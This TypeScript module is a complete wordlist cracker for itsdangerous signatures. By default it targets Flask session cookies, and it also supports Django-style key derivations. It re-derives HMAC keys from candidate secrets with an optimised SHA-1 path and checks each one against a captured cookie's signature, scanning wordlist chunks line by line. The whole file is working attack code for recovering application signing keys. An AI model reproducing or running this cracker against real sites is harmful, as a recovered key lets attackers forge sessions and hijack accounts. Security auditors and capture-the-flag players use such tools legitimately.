// Wordlist attack on itsdangerous 2.2.0 signatures (Signer.verify_signature): https://github.com/pallets/itsdangerous/blob/2.2.0/src/itsdangerous/signer.py
import { hmac as nobleHmac } from '@noble/hashes/hmac.js';
import { DIGESTS, isDigestName, KEY_DERIVATIONS, type DigestName, type KeyDerivation } from './itsdangerous/digests.ts';
import { base64Decode } from './itsdangerous/encoding.ts';
import { SHA1_IV, sha1Block } from './itsdangerous/sha1.ts';

/** How a candidate secret and the salt become the HMAC key, as in `Signer.key_derivation`. */
export type CrackKeyDerivation = KeyDerivation;

/** The digests a cookie can be signed with (`Signer.digest_method`). */
export type CrackDigest = DigestName;

/** What the cracker needs to know besides the cookie; defaults are Flask's session settings. */
export interface CrackOptions {
  /** Default `cookie-session` (Flask's `SecureCookieSessionInterface.salt`). */
  salt?: string | Uint8Array;
  /** Default `hmac`. */
  keyDerivation?: CrackKeyDerivation;
  /** Default `sha1`. */
  digest?: CrackDigest;
  /**
   * `auto` (default) uses the hand-specialised SHA-1 HMAC when the digest is SHA-1 and @noble/hashes
   * otherwise; `noble` forces the library path, for measurement and cross-checks.
   */
  engine?: 'auto' | 'noble';
}

/** A cookie split into what its signature covers and the signature itself. */
export interface SignedParts {
  /** Everything before the last `.`: `payload.timestamp` for a Flask cookie. */
  message: Uint8Array;
  /** The signature, base64-decoded the lenient way itsdangerous does. */
  signature: Uint8Array;
}

const encoder = new TextEncoder();
const SIGNER = encoder.encode('signer');

/**
 * Splits a signed value at its last `.` and decodes the signature, as `Signer.unsign` does.
 * Text is UTF-8 encoded first, as itsdangerous's `want_bytes` does.
 * @throws {Error} when there is no `.` or the signature is not base64.
 */
export function splitSigned(cookie: string | Uint8Array): SignedParts {
  const bytes = typeof cookie === 'string' ? encoder.encode(cookie.trim()) : cookie;
  const at = bytes.lastIndexOf(0x2e);
  if (at === -1) throw new Error("not a signed value: no '.' found");
  let signature: Uint8Array;
  try {
    signature = base64Decode(bytes.subarray(at + 1));
  } catch {
    throw new Error('the signature part is not valid base64');
  }
  return { message: bytes.slice(0, at), signature };
}

// ---------------------------------------------------------------------------------------------
// SHA-1 specialised for many HMACs over short inputs: preallocated state, the constant message blocks
// turned into words once, the HMAC key pads built straight into 32-bit words.

/**
 * The padded SHA-1 blocks of `data` when `prefixLen` bytes were hashed before it, as big-endian words
 * (16 per block).
 */
function paddedWords(data: Uint8Array, prefixLen: number): Int32Array {
  const nBlocks = Math.ceil((data.length + 9) / 64);
  const bytes = new Uint8Array(nBlocks * 64);
  bytes.set(data);
  bytes[data.length] = 0x80;
  const bits = (prefixLen + data.length) * 8;
  const view = new DataView(bytes.buffer);
  view.setUint32(bytes.length - 8, Math.floor(bits / 0x100000000));
  view.setUint32(bytes.length - 4, bits >>> 0);
  const out = new Int32Array(nBlocks * 16);
  for (let j = 0; j < out.length; j++) out[j] = view.getInt32(j * 4);
  return out;
}

/** SHA-1 HMAC with the key fixed per call and the message fixed per instance. */
class Sha1Hmac {
  private readonly msgWords: Int32Array;
  /** The outer message: the 20-byte inner digest (words 0-4, set per call), then padding for 64 + 20 bytes. */
  private readonly w = Int32Array.of(0, 0, 0, 0, 0, 0x80000000 | 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 672);
  private readonly inner = new Int32Array(5);
  readonly outer = new Int32Array(5);

  constructor(message: Uint8Array) {
    this.msgWords = paddedWords(message, 64);
  }

  /**
   * HMAC over the fixed message with a key of at most 64 bytes given as 16 big-endian words
   * (zero-padded); the result is left in `outer`.
   */
  run(key: Int32Array): void {
    const w = this.w;
    const inner = this.inner;
    const outer = this.outer;
    inner.set(SHA1_IV);
    sha1Block(inner, key, 0, 0x36363636);
    outer.set(SHA1_IV);
    sha1Block(outer, key, 0, 0x5c5c5c5c);
    const msg = this.msgWords;
    for (let o = 0; o < msg.length; o += 16) sha1Block(inner, msg, o);
    w[0] = inner[0]!;
    w[1] = inner[1]!;
    w[2] = inner[2]!;
    w[3] = inner[3]!;
    w[4] = inner[4]!;
    sha1Block(outer, w, 0);
  }
}

/** A general SHA-1 over a reusable buffer, for long keys and the concat derivations. */
class Sha1Scratch {
  private buf = new Uint8Array(256);
  private readonly w = new Int32Array(16);
  readonly state = new Int32Array(5);

  /** SHA-1 of `prefix ‖ src[start, end)`, left in `state`. */
  hash(prefix: Uint8Array, src: Uint8Array, start: number, end: number): void {
    const len = prefix.length + end - start;
    const padded = Math.ceil((len + 9) / 64) * 64;
    if (this.buf.length < padded) this.buf = new Uint8Array(padded * 2);
    const buf = this.buf;
    buf.set(prefix, 0);
    buf.set(src.subarray(start, end), prefix.length);
    buf[len] = 0x80;
    buf.fill(0, len + 1, padded);
    const bits = len * 8;
    const hi = Math.floor(bits / 0x100000000);
    buf[padded - 8] = hi >>> 24;
    buf[padded - 7] = hi >>> 16;
    buf[padded - 6] = hi >>> 8;
    buf[padded - 5] = hi;
    buf[padded - 4] = bits >>> 24;
    buf[padded - 3] = bits >>> 16;
    buf[padded - 2] = bits >>> 8;
    buf[padded - 1] = bits;
    const st = this.state;
    st.set(SHA1_IV);
    const w = this.w;
    for (let p = 0; p < padded; p += 64) {
      for (let j = 0; j < 16; j++) {
        const q = p + j * 4;
        w[j] = (buf[q]! << 24) | (buf[q + 1]! << 16) | (buf[q + 2]! << 8) | buf[q + 3]!;
      }
      sha1Block(st, w, 0);
    }
  }
}

/** Loads bytes `src[start, end)` (at most 64) into 16 zero-padded big-endian words. */
function loadKeyWords(key: Int32Array, src: Uint8Array, start: number, end: number): void {
  let i = start;
  let k = 0;
  for (; i + 4 <= end; i += 4) key[k++] = (src[i]! << 24) | (src[i + 1]! << 16) | (src[i + 2]! << 8) | src[i + 3]!;
  if (i < end) {
    let v = 0;
    for (let shift = 24; i < end; i++, shift -= 8) v |= src[i]! << shift;
    key[k++] = v;
  }
  for (; k < 16; k++) key[k] = 0;
}

/** Puts a 5-word SHA-1 digest into a 16-word key block whose words 5-15 are zero. */
function digestKeyWords(key: Int32Array, st: Int32Array): void {
  key[0] = st[0]!;
  key[1] = st[1]!;
  key[2] = st[2]!;
  key[3] = st[3]!;
  key[4] = st[4]!;
}

/** Candidate tester for SHA-1 cookies, built once per cookie. */
class Sha1Tester {
  private readonly derivation: CrackKeyDerivation;
  private readonly saltHmac: Sha1Hmac;
  private readonly sigHmac: Sha1Hmac;
  private readonly prefix: Uint8Array;
  private readonly scratch = new Sha1Scratch();
  private readonly key = new Int32Array(16);
  /** The derived key of the candidate being tried: a digest, so words 5-15 stay zero. */
  private readonly derived = new Int32Array(16);
  private readonly sig: Int32Array;

  constructor(parts: SignedParts, salt: Uint8Array, derivation: CrackKeyDerivation) {
    this.derivation = derivation;
    this.saltHmac = new Sha1Hmac(salt);
    this.sigHmac = new Sha1Hmac(parts.message);
    this.prefix = derivation === 'django-concat' ? concat(salt, SIGNER) : derivation === 'concat' ? salt : new Uint8Array(0);
    const view = new DataView(parts.signature.buffer, parts.signature.byteOffset, 20);
    this.sig = Int32Array.from({ length: 5 }, (_, i) => view.getInt32(i * 4));
  }

  /** The candidate as an HMAC key block: hashed first when longer than the 64-byte block, as HMAC requires. */
  private candidateKey(src: Uint8Array, start: number, end: number): void {
    if (end - start > 64) {
      this.scratch.hash(EMPTY, src, start, end);
      this.key.fill(0);
      digestKeyWords(this.key, this.scratch.state);
    } else {
      loadKeyWords(this.key, src, start, end);
    }
  }

  test(src: Uint8Array, start: number, end: number): boolean {
    let key = this.derived;
    switch (this.derivation) {
      case 'hmac':
        this.candidateKey(src, start, end);
        this.saltHmac.run(this.key);
        digestKeyWords(key, this.saltHmac.outer);
        break;
      case 'concat':
      case 'django-concat':
        this.scratch.hash(this.prefix, src, start, end);
        digestKeyWords(key, this.scratch.state);
        break;
      default:
        this.candidateKey(src, start, end);
        key = this.key;
    }
    this.sigHmac.run(key);
    const out = this.sigHmac.outer;
    const sig = this.sig;
    // Nearly every wrong guess stops at the first word; a hit is confirmed over all of them.
    if (out[0] !== sig[0]) return false;
    let diff = 0;
    for (let i = 0; i < 5; i++) diff |= out[i]! ^ sig[i]!;
    return diff === 0;
  }
}

const EMPTY = new Uint8Array(0);

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
}

/** Candidate tester through @noble/hashes, for every digest. */
class NobleTester {
  private readonly hash: (typeof DIGESTS)[CrackDigest]['hash'];
  private readonly parts: SignedParts;
  private readonly salt: Uint8Array;
  private readonly derivation: CrackKeyDerivation;
  private readonly prefix: Uint8Array;

  constructor(parts: SignedParts, salt: Uint8Array, derivation: CrackKeyDerivation, digest: CrackDigest) {
    this.hash = DIGESTS[digest].hash;
    this.parts = parts;
    this.salt = salt;
    this.derivation = derivation;
    this.prefix = derivation === 'django-concat' ? concat(salt, SIGNER) : salt;
  }

  test(src: Uint8Array, start: number, end: number): boolean {
    const candidate = src.subarray(start, end);
    let key: Uint8Array;
    switch (this.derivation) {
      case 'hmac':
        key = nobleHmac(this.hash, candidate, this.salt);
        break;
      case 'concat':
      case 'django-concat':
        key = this.hash(concat(this.prefix, candidate));
        break;
      default:
        key = candidate;
    }
    const mac = nobleHmac(this.hash, key, this.parts.message);
    const sig = this.parts.signature;
    if (mac[0] !== sig[0] || mac[1] !== sig[1] || mac[2] !== sig[2] || mac[3] !== sig[3]) return false;
    let diff = 0;
    for (let i = 0; i < mac.length; i++) diff |= mac[i]! ^ sig[i]!;
    return diff === 0;
  }
}

/** The outcome of scanning a chunk of wordlist lines. */
export interface ChunkResult {
  /** How many lines were tried (all of them when nothing matched). */
  tried: number;
  /** The matching line's bytes (one trailing `\r` removed), or null. */
  match: Uint8Array | null;
}

/**
 * Tests candidate secrets against one signed cookie: for each candidate it derives the key from the
 * salt and compares the HMAC of `payload.timestamp` with the cookie's signature, the check
 * `Signer.verify_signature` makes. Everything that does not depend on the candidate is prepared once.
 * @param cookie a signed value such as a Flask session cookie.
 * @param options salt, key derivation and digest (Flask's by default).
 * @throws {Error} when the cookie has no `.`, its signature is not base64, or the signature's length
 *   cannot come from the digest (then no key could ever match).
 */
export class Cracker {
  readonly parts: SignedParts;
  readonly digest: CrackDigest;
  readonly keyDerivation: CrackKeyDerivation;
  private readonly tester: { test(src: Uint8Array, start: number, end: number): boolean };

  constructor(cookie: string | Uint8Array | SignedParts, options: CrackOptions = {}) {
    this.parts = typeof cookie === 'string' || cookie instanceof Uint8Array ? splitSigned(cookie) : cookie;
    this.digest = options.digest ?? 'sha1';
    this.keyDerivation = options.keyDerivation ?? 'hmac';
    if (!isDigestName(this.digest)) throw new Error(`unknown digest: ${String(this.digest)}`);
    if (!(KEY_DERIVATIONS as readonly string[]).includes(this.keyDerivation)) {
      throw new Error(`unknown key derivation: ${String(this.keyDerivation)}`);
    }
    const size = DIGESTS[this.digest].size;
    if (this.parts.signature.length !== size) {
      throw new Error(`the signature is ${this.parts.signature.length} bytes but ${this.digest} gives ${size}: no key can match`);
    }
    const salt = options.salt === undefined ? encoder.encode('cookie-session') : typeof options.salt === 'string' ? encoder.encode(options.salt) : options.salt;
    this.tester =
      this.digest === 'sha1' && options.engine !== 'noble'
        ? new Sha1Tester(this.parts, salt, this.keyDerivation)
        : new NobleTester(this.parts, salt, this.keyDerivation, this.digest);
  }

  /** True when the secret `src[start, end)` signed the cookie. */
  testRange(src: Uint8Array, start: number, end: number): boolean {
    return this.tester.test(src, start, end);
  }

  /** True when `candidate` is the secret that signed the cookie. */
  test(candidate: Uint8Array): boolean {
    return this.tester.test(candidate, 0, candidate.length);
  }

  /** The index of the first candidate that signed the cookie, or -1. */
  findIndex(candidates: readonly Uint8Array[]): number {
    for (let i = 0; i < candidates.length; i++) {
      const c = candidates[i]!;
      if (this.tester.test(c, 0, c.length)) return i;
    }
    return -1;
  }

  /**
   * Tries every line of a chunk of a wordlist: lines end at `\n`, one trailing `\r` is dropped, bytes
   * are kept as they are (no text decoding). A final line without `\n` counts too; an empty piece after
   * the last `\n` does not.
   */
  scanLines(chunk: Uint8Array): ChunkResult {
    let tried = 0;
    let start = 0;
    const n = chunk.length;
    while (start < n) {
      let nl = chunk.indexOf(0x0a, start);
      if (nl === -1) nl = n;
      let end = nl;
      if (end > start && chunk[end - 1] === 0x0d) end--;
      tried++;
      if (this.tester.test(chunk, start, end)) return { tried, match: chunk.slice(start, end) };
      start = nl + 1;
    }
    return { tried, match: null };
  }
}

/**
 * One-shot form of {@link Cracker.findIndex}: the index of the candidate that signed `cookie`, or -1.
 * @throws {Error} as the {@link Cracker} constructor.
 */
export function crack(cookie: string | Uint8Array, candidates: readonly Uint8Array[], options: CrackOptions = {}): number {
  return new Cracker(cookie, options).findIndex(candidates);
}

/** Counts the lines {@link Cracker.scanLines} would try in a chunk. */
export function countLines(chunk: Uint8Array): number {
  let count = 0;
  let start = 0;
  while (start < chunk.length) {
    const nl = chunk.indexOf(0x0a, start);
    count++;
    if (nl === -1) break;
    start = nl + 1;
  }
  return count;
}
